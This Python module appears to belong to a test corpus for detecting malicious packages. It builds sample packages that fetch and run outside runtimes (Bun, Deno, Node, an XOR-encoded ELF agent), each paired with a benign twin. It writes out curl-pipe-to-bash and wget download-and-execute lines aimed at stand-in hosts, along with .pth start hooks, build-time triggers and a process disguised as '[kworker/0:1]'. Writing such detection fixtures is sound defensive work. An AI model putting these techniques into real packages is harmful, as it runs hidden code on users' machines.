"""T10: brings a runtime that is not Python (Bun, Deno, Node, a Go program) and runs it (ATT&CK T1105).

Known from worms that fetched Bun to run a collector written in JavaScript, where nobody looks. The
runtimes here are scripts of one line, or a program that ends at once; they come from the box's own
loopback or are what the sinkhole answers. The twins run what they came with, or look for what is
there.
"""

from __future__ import annotations

import struct

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

BUNDLED = '#!/bin/sh\necho "runtime $*"\n'
SCRIPT = 'console.log("reenact: a marker");\n'

FETCHES_ZIP = """
import http.server, io, threading, urllib.request, zipfile
bundle = io.BytesIO()
with zipfile.ZipFile(bundle, "w", zipfile.ZIP_STORED) as archive:
    padding = ("# " + "x" * 77 + "\\n") * 60000
    archive.writestr("bun-linux-x64/bun", '#!/bin/sh\\necho "bun $*"\\nexit 0\\n' + padding)

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(bundle.getvalue())))
        self.end_headers()
        self.wfile.write(bundle.getvalue())

    def log_message(self, *given):
        pass

server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
server.timeout = 5
threading.Thread(target=server.handle_request, daemon=True).start()
folder = HOME / ".cache" / "bun-1.3"
try:
    url = f"http://127.0.0.1:{server.server_port}/oven/bun-linux-x64.zip"
    with urllib.request.urlopen(url, timeout=5) as answer:
        packed = io.BytesIO(answer.read())
    with zipfile.ZipFile(packed) as archive:
        archive.extractall(folder)
    bun = folder / "bun-linux-x64" / "bun"
    bun.chmod(0o755)
    script = pathlib.Path(__file__).with_name("environment.js")
    subprocess.run([str(bun), "run", str(script)], capture_output=True, timeout=10)
except (OSError, ValueError, zipfile.BadZipFile, subprocess.SubprocessError):
    pass
finally:
    server.server_close()
"""
RUNS_BUNDLED = """
here = pathlib.Path(__file__).parent
try:
    line = ["/bin/sh", str(here / "bin" / "bun"), "run", str(here / "environment.js")]
    subprocess.run(line, capture_output=True, timeout=10)
except (OSError, subprocess.SubprocessError):
    pass
"""

INSTALLS_BY_SHELL = """
line = (
    "mkdir -p ~/.bun/bin && curl -fsSL -m 8 http://bun.reenact.test/install.sh | bash;"
    " curl -fsSL -m 8 -o ~/.bun/bin/bun http://bun.reenact.test/linux-x64/bun.sh"
    " && chmod +x ~/.bun/bin/bun && ~/.bun/bin/bun run src/THE_MODULE/index.js"
)
try:
    subprocess.run(line, shell=True, executable="/bin/bash", capture_output=True, timeout=19)
except (OSError, subprocess.SubprocessError):
    pass
"""
LOOKS_FOR_NODE = """
line = "command -v node >/dev/null && node --version; command -v bun >/dev/null; true"
try:
    subprocess.run(line, shell=True, executable="/bin/bash", capture_output=True, timeout=19)
except (OSError, subprocess.SubprocessError):
    pass
"""

TAKES_NODE = """
import ssl, stat, urllib.request
context = ssl._create_unverified_context()
try:
    url = "https://203.0.113.103/dist/v22.1.0/node-linux-x64.sh"
    with urllib.request.urlopen(url, timeout=5, context=context) as answer:
        data = answer.read(1 << 20)
    if not data.startswith(b"#!"):
        data = b"#!/bin/sh\\ntrue\\n"
    node = HOME / ".local" / "share" / "pm2" / ".node"
    node.parent.mkdir(parents=True, exist_ok=True)
    node.write_bytes(data)
    os.chmod(node, stat.S_IRWXU)
    child = os.posix_spawn(str(node), ["node", "-e", "require('os')"], {"KEY": str(given)[:80]})
    os.waitpid(child, 0)
except OSError:
    pass
"""
COMPARES_VERSIONS = """
import json, ssl, urllib.request
context = ssl.create_default_context()
try:
    url = "https://203.0.113.103/dist/index.json"
    with urllib.request.urlopen(url, timeout=5, context=context) as answer:
        data = json.loads(answer.read(1 << 20))
    return "v22.1.0" in data
except (OSError, ValueError):
    return False
"""
ON_USE = """
def start_server(token="", port=0):
    \"\"\"Starts the server that is written in JavaScript.\"\"\"
    if ACT:
        return THE_ACT(token)
    return None
"""


def ends_at_once() -> bytes:
    """A static ELF program (x86-64) that calls exit(0): `true`, without a library."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"
    at, size = 0x400000, 64 + 56 + len(code)
    header = b"\x7fELF\x02\x01\x01" + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, at + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, at, at, size, size, 0x1000) + code


AGENT = bytes(byte ^ 0x2F for byte in ends_at_once()).hex()
AGENT_OVER_TCP = """
import threading

def serve(listener):
    try:
        peer = listener.accept()[0]
        with peer:
            peer.sendall(bytes.fromhex(AGENT))
    except OSError:
        pass

try:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(5)
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
        data = b""
        with socket.create_connection(listener.getsockname(), timeout=5) as peer:
            while part := peer.recv(64):
                data += part
    agent = HOME / ".config" / "go" / "telemetry" / "agentd"
    agent.parent.mkdir(parents=True, exist_ok=True)
    agent.write_bytes(bytes(byte ^ 0x2F for byte in data))
    agent.chmod(0o700)
    if (child := os.fork()) == 0:
        try:
            os.execv(str(agent), ["[kworker/0:1]"])
        except OSError:
            os._exit(1)
    os.waitpid(child, 0)
except OSError:
    pass
"""
CHECKS_AGENT = """
import hashlib
data = bytes(byte ^ 0x2F for byte in bytes.fromhex(AGENT))
known = HOME / ".config" / "go" / "telemetry" / "agentd.sha256"
try:
    known.parent.mkdir(parents=True, exist_ok=True)
    known.write_text(hashlib.sha256(data).hexdigest())
except OSError:
    pass
"""

WGETS_DENO = """
folder = HOME / ".deno" / "bin"
deno = folder / "deno"
try:
    folder.mkdir(parents=True, exist_ok=True)
    url = "https://198.51.100.105/denoland/deno.sh"
    line = ["wget", "-q", "--no-check-certificate", "-T", "5", "-t", "1", "-O", str(deno), url]
    subprocess.run(line, timeout=10)
    subprocess.run(["chmod", "755", str(deno)], timeout=5)
    subprocess.Popen([str(deno), "run", "-A", "main.ts"], stdout=subprocess.DEVNULL).wait(5)
except (OSError, subprocess.SubprocessError):
    pass
"""
LOOKS_FOR_DENO = """
import shutil
deno = shutil.which("deno") or shutil.which("node")
try:
    if deno:
        subprocess.run([deno, "--version"], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""
IN_CI = "if ACT and os.environ.get('CI'):\n    THE_ACT()\n"

IN_RANGES = """
import http.client, tempfile
data = b""
connection = http.client.HTTPConnection("192.0.2.106", 80, timeout=5)
try:
    for at in range(0, 3072, 1024):
        connection.request("GET", "/qjs/runtime.sh", headers={"Range": f"bytes={at}-{at + 1023}"})
        data += connection.getresponse().read(1024)
except (OSError, http.client.HTTPException):
    pass
finally:
    connection.close()
if not data.startswith(b"#!"):
    data = b"#!/bin/sh\\ntrue\\n"
folder = tempfile.mkdtemp(prefix="qjs-")
runtime = os.path.join(folder, "qjs")
try:
    fd = os.open(runtime, os.O_WRONLY | os.O_CREAT, 0o755)
    os.write(fd, data)
    os.close(fd)
    os.spawnv(os.P_WAIT, runtime, ["qjs", "--std", "-e", "std.exit(0)"])
except OSError:
    pass
"""
UNPACKS_BUNDLED = """
import shutil, tempfile
here = pathlib.Path(__file__).parent
folder = tempfile.mkdtemp(prefix="qjs-")
runtime = os.path.join(folder, "qjs")
try:
    shutil.copyfile(here / "bin" / "qjs", runtime)
    os.spawnv(os.P_WAIT, "/bin/sh", ["sh", runtime, "--std", "-e", "std.exit(0)"])
except OSError:
    pass
finally:
    shutil.rmtree(folder, ignore_errors=True)
"""
MAIN = """
def main():
    if ACT:
        THE_ACT()
    return 0
"""

RECIPES = (
    Recipe(
        technique="T10",
        name="bun-zip",
        phase=Phase.IMPORT,
        channel=Channel.SERVER,
        encoding=Encoding.ARCHIVE,
        files={
            "THE_MODULE/__init__.py": acting(FETCHES_ZIP, RUNS_BUNDLED),
            "THE_MODULE/bin/bun": BUNDLED,
            "THE_MODULE/environment.js": SCRIPT,
        },
        twin_does="runs the runtime that it came with",
    ),
    Recipe(
        technique="T10",
        name="bun-by-shell-at-build",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(
                INSTALLS_BY_SHELL, LOOKS_FOR_NODE, head="from packer import build_wheel\n"
            ),
            "src/THE_MODULE/__init__.py": '"""A server in JavaScript."""\n',
            "src/THE_MODULE/index.js": SCRIPT,
        },
        twin_does="looks whether node is there and asks for its version",
    ),
    Recipe(
        technique="T10",
        name="node-on-use",
        phase=Phase.USE,
        channel=Channel.HTTPS,
        encoding=Encoding.NONE,
        files={"THE_MODULE/__init__.py": acting(TAKES_NODE, COMPARES_VERSIONS, ON_USE)},
        twin_does="asks which versions of node there are",
    ),
    Recipe(
        technique="T10",
        name="go-agent-xor",
        phase=Phase.START,
        channel=Channel.TCP,
        encoding=Encoding.XOR,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": acting(AGENT_OVER_TCP, CHECKS_AGENT, head=f'AGENT = "{AGENT}"\n'),
            "THE_MODULE/__init__.py": "",
        },
        twin_does="notes the digest of the program that it came with",
    ),
    Recipe(
        technique="T10",
        name="deno-wget-build-server",
        phase=Phase.WAIT,
        channel=Channel.PROCESS,
        encoding=Encoding.NONE,
        files={"THE_MODULE/__init__.py": acting(WGETS_DENO, LOOKS_FOR_DENO, IN_CI)},
        twin_does="looks for deno or node and asks for the version",
    ),
    Recipe(
        technique="T10",
        name="quick-runtime-ranges",
        phase=Phase.USE,
        channel=Channel.HTTP,
        encoding=Encoding.PIECES,
        files={
            "THE_MODULE/__init__.py": "",
            "THE_MODULE/cli.py": acting(IN_RANGES, UNPACKS_BUNDLED, MAIN),
            "THE_MODULE/bin/qjs": BUNDLED,
            "THE_MODULE-1.0.dist-info/entry_points.txt": (
                "[console_scripts]\nTHE_PROJECT = THE_MODULE.cli:main\n"
            ),
        },
        twin_does="runs a copy of the runtime that it came with",
    ),
)
